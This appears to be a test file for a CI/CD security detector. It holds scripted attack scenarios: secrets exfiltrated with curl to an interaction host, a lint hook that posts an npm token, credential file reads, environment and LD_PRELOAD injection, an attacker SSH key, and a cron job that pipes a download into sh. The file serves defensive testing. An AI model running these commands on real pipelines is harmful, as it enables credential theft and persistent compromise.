// Scenario variants for THREATS.md classes 10–13 (direct/indirect PPE, runner command files, persistence).
// Host files are never touched: cron lives under a bind mount of the job's private mount namespace, HOME is a temp dir.
import t from 'tap';
import { runSuite, type Variant } from '../helpers/scenario-suite.js';
import { url } from '../helpers/scenario-world.js';

const variants: Variant[] = [
  { cls: 10, name: 'python writes .gitlab-ci.yml and tee writes a Jenkinsfile', min: 'high', spec: () => ({ trigger: 'push', script: `
python3 -c 'open(".gitlab-ci.yml", "w").write("stages: [x]\\nx:\\n  script: [\\"env | curl -d @- http://oast.pro\\"]\\n")'
printf 'pipeline { agent any }\\n' | tee Jenkinsfile >/dev/null` }) },
  { cls: 10, name: 'node appends a step to .github/workflows/ci.yml', min: 'high', spec: () => ({ trigger: 'pull_request', script: `
node -e 'require("fs").appendFileSync(".github/workflows/ci.yml", "      - run: env | base64\\n")'` }) },
  { cls: 10, name: 'git push to a second remote from a pull_request job', min: 'high', spec: () => ({ trigger: 'pull_request', script: `
git init -q --bare "$SCEN_DIR/mirror.git"
git remote add mirror "$SCEN_DIR/mirror.git"
git push -q mirror HEAD:refs/heads/backdoor 2>&1 | tail -1` }) },

  { cls: 11, name: 'fork pull_request_target: PR Makefile target reads credentials', min: 'critical', spec: () => ({ trigger: 'pull_request_target', fork: true,
    wsFiles: { 'mk/check.mk': 'check:\n\t@cat $$HOME/.aws/credentials $$HOME/.npmrc > /dev/null; echo checked\n' },
    script: 'make -s -f Makefile -f mk/check.mk check' }) },
  { cls: 11, name: 'fork pull_request_target: npm run hook posts the token', min: 'critical', spec: (net) => ({ trigger: 'pull_request_target', fork: true,
    wsFiles: {
      'package.json': JSON.stringify({ name: 'widget', version: '1.4.2', private: true, scripts: { lint: 'node scripts/lint.js' } }, null, 2) + '\n',
      'scripts/lint.js': `const r = require('http').request(${JSON.stringify(url(net, 'collector.buildstats.dev', '/l'))}, { method: 'POST' }, (s) => s.resume());\nr.on('error', () => {});\nr.end(String(process.env.NPM_TOKEN).split('').reverse().join(''));\nconsole.log('lint ok');\n`,
    },
    script: 'npm run --silent lint' }) },

  { cls: 12, name: 'python appends NODE_OPTIONS to GITHUB_ENV', min: 'high', spec: () => ({ trigger: 'push', script: `
echo 'console.log(1)' > "$RUNNER_TEMP/.h.js"
python3 -c 'import os; open(os.environ["GITHUB_ENV"], "a").write("NODE_OPTIONS=--require " + os.environ["RUNNER_TEMP"] + "/.h.js\\n")'` }) },
  { cls: 12, name: 'LD_PRELOAD through the heredoc-delimiter syntax', min: 'high', spec: () => ({ trigger: 'push', script: `
{ echo 'LD_PRELOAD<<__EOF'; echo "$SCEN_DIR/libhook.so"; echo '__EOF'; } >> "$GITHUB_ENV"` }) },
  { cls: 12, name: 'PATH prepend of the runner temp dir via GITHUB_PATH', min: 'high', spec: () => ({ trigger: 'push', script: `
mkdir -p "$RUNNER_TEMP/.bin" && printf '#!/bin/sh\\necho fake git\\n' > "$RUNNER_TEMP/.bin/git" && chmod +x "$RUNNER_TEMP/.bin/git"
echo "$RUNNER_TEMP/.bin" >> "$GITHUB_PATH"` }) },

  { cls: 13, name: 'python appends to ~/.ssh/authorized_keys', min: 'high', spec: () => ({ trigger: 'push', script: `
python3 -c 'import os; open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker mallory\\n")'` }) },
  { cls: 13, name: 'systemd user unit written with tee', min: 'high', spec: () => ({ trigger: 'push', script: `
mkdir -p ~/.config/systemd/user
printf '[Service]\\nExecStart=/bin/sh -c "sleep 1"\\n[Install]\\nWantedBy=default.target\\n' | tee ~/.config/systemd/user/dbus-helper.service >/dev/null` }) },
  { cls: 13, name: 'cron file dropped in /etc/cron.d (private bind mount)', min: 'high', spec: () => ({ trigger: 'push', bindOver: ['/etc/cron.d'], script: `
echo '*/5 * * * * root curl -s http://oast.pro/b | sh' > /etc/cron.d/apt-compat-x` }) },
  { cls: 13, name: 'setsid -f survivor', min: 'medium', spec: () => ({ trigger: 'push', script: `
setsid -f sh -c 'echo $$ >> "$SCEN_ORPHANS"; exec sleep 120' </dev/null >/dev/null 2>&1
sleep 0.3; echo started` }) },

];

runSuite(t, variants);
